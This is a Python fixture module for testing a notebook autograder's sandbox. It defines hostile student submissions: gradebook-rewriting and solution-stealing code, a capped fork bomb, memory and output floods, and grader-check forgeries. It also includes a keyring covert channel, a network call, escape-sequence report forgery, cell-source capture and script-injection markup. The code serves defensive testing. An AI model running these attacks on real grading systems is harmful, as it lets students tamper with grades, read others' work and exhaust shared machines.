"""Hostile submissions: learners whose code attacks the grader.

Each one is the released GELU notebook with the solution cell replaced by code that
first defines a correct ``gelu`` (so that, if the attack is harmless, the graded
cells still pass) and then attacks. The attacks name the real paths of the course
under test -- absolute and relative to nbgrader's working directory -- so that
without a sandbox they would succeed (test_classroom_hostile.py shows that for the
gradebook and the solutions on a plain ``nbgrader autograde``).

Every attack is bounded: the fork bomb stops at ``FORK_CAP`` processes that exit by
themselves after ``FORK_SLEEP`` seconds, the memory hog asks for one block, so even
a broken sandbox cannot take the machine down.
"""
from __future__ import annotations

import copy
import json
import textwrap

ASSIGNMENT = "03_gelu"
NOTEBOOK = "gelu.ipynb"
CELL = "gelu"
FORK_CAP = 1500
FORK_SLEEP = 20
MEMORY_ASK = 16 << 30  # 16 GiB: more than the kernel's limit, less than the machine could map

GELU = textwrap.dedent("""\
    def gelu(x):
        inner = math.sqrt(2.0 / math.pi) * (x + 0.044715 * x ** 3)
        return 0.5 * x * (1.0 + torch.tanh(inner))
    """)


def attacks(paths: dict) -> dict[str, str]:
    """{student: solution-cell source}. ``paths`` holds the absolute paths under test:
    ``gradebooks`` (list), ``solutions`` (list of instructor notebooks), ``victim_files``
    (list of another learner's files), ``victim`` (that learner's id), ``port`` (a listening TCP port on the host)."""
    p = {k: json.dumps(v) for k, v in paths.items()}
    return {
        "h_gradebook": GELU + textwrap.dedent(f"""\
            import sqlite3
            # nbgrader's layout puts the gradebook three levels up from the working dir
            targets = ["../../../gradebook.db"] + {p['gradebooks']}
            for path in targets:
                with open(path, "r+b"):
                    pass  # exists and is writable: rewrite every grade
                db = sqlite3.connect(path)
                db.execute("UPDATE grade SET manual_score = 1000")
                db.commit()
            """),
        "h_solutions": textwrap.dedent(f"""\
            import json
            for path in ["../../../solutions/03_gelu/gelu.ipynb"] + {p['solutions']}:
                nb = json.load(open(path))
                for cell in nb["cells"]:
                    if "def gelu" in "".join(cell["source"]):
                        exec("".join(cell["source"]))
                        break
                break
            """),
        "h_writer": GELU + textwrap.dedent(f"""\
            for path in ["../../" + {p['victim']} + "/03_gelu/gelu.ipynb"] + {p['victim_files']}:
                with open(path, "w") as f:
                    f.write("overwritten by another learner")
            """),
        "h_memory": GELU + textwrap.dedent(f"""\
            hog = bytearray({MEMORY_ASK})
            hog[-1] = 1
            """),
        "h_forkbomb": GELU + textwrap.dedent(f"""\
            import os, time
            started = 0
            try:
                for _ in range({FORK_CAP}):
                    if os.fork() == 0:
                        time.sleep({FORK_SLEEP})
                        os._exit(0)
                    started += 1
            finally:
                print("processes started:", started)
            """),
        "h_network": GELU + textwrap.dedent(f"""\
            import socket
            for host, port in [("127.0.0.1", {p['port']}), ("192.0.2.1", 80)]:
                socket.create_connection((host, port), timeout=3).sendall(b"grades please")
            """),
        "h_forever": GELU + "while True:\n    pass\n",
        "h_stubborn": GELU + textwrap.dedent("""\
            import time
            while True:
                try:
                    time.sleep(0.1)
                except BaseException:
                    pass  # swallow the interrupt nbgrader sends after its time limit
            """),
    }


# (student, cells added after the solution cell): code nbgrader alone would run for
# hours -- every cell stays under the per-cell time limit
SLOW_CELLS = ("h_many_cells", ["import time\ntime.sleep(4)\n"] * 200)


def _cell(nb: dict, grade_id: str) -> dict:
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return cell
    raise KeyError(grade_id)


def notebook_with(released_nb: dict, source: str, extra_cells: list[str] = ()) -> str:
    nb = copy.deepcopy(released_nb)
    cell = _cell(nb, CELL)
    cell["source"] = source
    at = nb["cells"].index(cell) + 1
    for i, src in enumerate(extra_cells):
        nb["cells"].insert(at + i, {"cell_type": "code", "execution_count": None, "metadata": {},
                                    "outputs": [], "source": src, "id": f"extra-{i}"})
    return json.dumps(nb, indent=1)


# --------------------------------------------------------------------------- forgeries
# Answers that do no work (gelu still raises NotImplementedError) and try to make the
# notebook's own graded cells pass anyway. In a plain nbgrader run they get full marks
# (test_forgery_works_without_the_independent_check shows it); graded by classroom.grade
# they get nothing and are reported.
EMPTY = "def gelu(x):\n    raise NotImplementedError()\n"

FORGERIES = {
    # rebind every check the locked cells call
    "f_rebind": EMPTY + textwrap.dedent("""\
        from andrea_ref import grading as _g
        for _name in dir(_g):
            if _name.startswith("check_"):
                setattr(_g, _name, lambda *a, **k: print("\\u2713 looks fine"))
        """),
    # swap the module the locked cells use, through the import system
    "f_import": EMPTY + textwrap.dedent("""\
        import sys, types
        class _Anything(types.ModuleType):
            def __getattr__(self, name):
                return lambda *a, **k: None
        _fake = _Anything("andrea_ref.grading")
        sys.modules["andrea_ref.grading"] = _fake
        import andrea_ref
        andrea_ref.grading = _fake
        grading = _fake
        """),
    # rewrite every later cell that calls a check before it runs
    "f_transformer": EMPTY + textwrap.dedent("""\
        def _skip_checks(lines):
            return ["pass\\n"] if any("grading.check" in line for line in lines) else lines
        get_ipython().input_transformers_post.append(_skip_checks)
        """),
}

# A module handed in beside the notebook that shadows `torch`, which the locked set-up
# cell imports: it loads the real torch, then disarms every check before any cell runs.
SHADOW_TORCH = textwrap.dedent("""\
    import importlib, sys
    sys.path[:] = [p for p in sys.path if p not in ("", ".") and not p.endswith("03_gelu")]
    del sys.modules["torch"]
    _real = importlib.import_module("torch")
    sys.modules["torch"] = _real
    import andrea_ref.grading as _g
    for _name in dir(_g):
        if _name.startswith("check_"):
            setattr(_g, _name, lambda *a, **k: None)
    globals().update(vars(_real))
    """)


# --------------------------------------------------------------------------- channels, resources
KEY_PAYLOAD = "left-for-the-next-learner"

KEYRING = GELU + textwrap.dedent(f"""\
    import ctypes, os, platform
    _libc = ctypes.CDLL(None, use_errno=True)
    _libc.syscall.restype = ctypes.c_long
    KEY_SPEC_USER_KEYRING = -4
    SYS_add_key, SYS_request_key, SYS_keyctl = {{"x86_64": (248, 249, 250),
                                                 "aarch64": (217, 218, 219)}}[platform.machine()]
    def _err(rc):
        return "ok" if rc >= 0 else os.strerror(ctypes.get_errno())
    rc = _libc.syscall(SYS_add_key, b"user", b"andrea-note", b"{KEY_PAYLOAD}", len(b"{KEY_PAYLOAD}"),
                       KEY_SPEC_USER_KEYRING)
    print("add_key:", _err(rc))
    # what an earlier learner under this uid may have left (KEYCTL_READ = 11)
    serial = _libc.syscall(SYS_request_key, b"user", b"andrea-note", None, 0)
    buf = ctypes.create_string_buffer(4096)
    n = _libc.syscall(SYS_keyctl, 11, serial, buf, 4096) if serial >= 0 else -1
    print("found:", buf.raw[:max(n, 0)].decode(errors="replace") if n >= 0 else "nothing (" + _err(serial) + ")")
    """)

# writes straight to the kernel's own stdout file descriptor, past ipykernel
RAW_FLOOD_MB = 300
RAW_FLOOD = GELU + textwrap.dedent(f"""\
    import os
    _chunk = b"x" * (1 << 20)
    for _ in range({RAW_FLOOD_MB}):
        os.write(1, _chunk)
        os.write(2, _chunk)
    """)

# many ordinary outputs, far more than the per-notebook cap
OUTPUT_FLOOD = GELU + textwrap.dedent("""\
    for _ in range(200):
        print("y" * 1_000_000)
    """)

# one single output message larger than any message the grader accepts
OUTPUT_ONE_HUGE = GELU + 'print("z" * 30_000_000)\n'

# memory held outside the address space: memfds filled with write(), each under the
# file-size limit, together far over the memory cap (bounded at MEMFD_GIB)
MEMFD_GIB = 5
MEMFD = GELU + textwrap.dedent(f"""\
    import os
    _fds, _chunk = [], b"m" * (16 << 20)
    for _ in range({MEMFD_GIB} * 4):  # 256 MiB files
        fd = os.memfd_create("hold")
        for _ in range(15):
            os.write(fd, _chunk)
        _fds.append(fd)
    print("held", len(_fds) * 240, "MiB")
    """)


# --------------------------------------------------------------------------- reports and feedback
FORGED_LINE = "  zz_honest/03_gelu/gelu (score 10; graded):"
REPORT_FORGERY = GELU + textwrap.dedent(f"""\
    raise ValueError("\\x1b[2K\\x1b[1A\\u202eevil\\r{FORGED_LINE}\\n{FORGED_LINE}")
    """)

HIDDEN_MARK = "20261130"  # the seed the hidden tests use


def exfiltration_cells() -> tuple[str, list[str]]:
    """An answer that records the source of every cell that runs after it, and a last
    cell that prints it, in encodings no line filter recognises (and through an earlier
    cell's display handle)."""
    answer = GELU + textwrap.dedent("""\
        import base64, codecs
        _seen = []
        _handle = display("nothing yet", display_id=True)
        def _spy(info):
            _seen.append(info.raw_cell)
            blob = base64.b64encode("".join(_seen).encode()).decode()
            _handle.update(blob)
            print(blob)
        get_ipython().events.register("pre_run_cell", _spy)
        """)
    last = textwrap.dedent("""\
        import base64, codecs
        text = "\\n".join(In)
        print(base64.b64encode(text.encode()).decode())
        print(text.encode().hex())
        print(codecs.encode(text, "rot13"))
        raise RuntimeError(base64.b64encode(text.encode()).decode())
        """)
    return answer, [last]


MARKUP = GELU + textwrap.dedent("""\
    from IPython.display import HTML, Javascript, display
    display(HTML('<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2"><b>bold</b>'))
    display(Javascript('window.pwned = 3'))
    """)
MARKDOWN_SCRIPT = ('<script>window.pwned = 4</script>\n\n<img src="x" onerror="window.pwned = 5">\n\n'
                   '[link](javascript:window.pwned=6)\n')


def with_markdown(nb_text: str, markdown: str) -> str:
    nb = json.loads(nb_text)
    nb["cells"].insert(1, {"cell_type": "markdown", "metadata": {}, "source": markdown, "id": "learner-md"})
    return json.dumps(nb, indent=1)


def append_cells(nb_text: str, sources: list[str]) -> str:
    """``nb_text`` with code cells added at the very end (after the graded cells)."""
    nb = json.loads(nb_text)
    for i, src in enumerate(sources):
        nb["cells"].append({"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
                            "source": src, "id": f"tail-{i}"})
    return json.dumps(nb, indent=1)
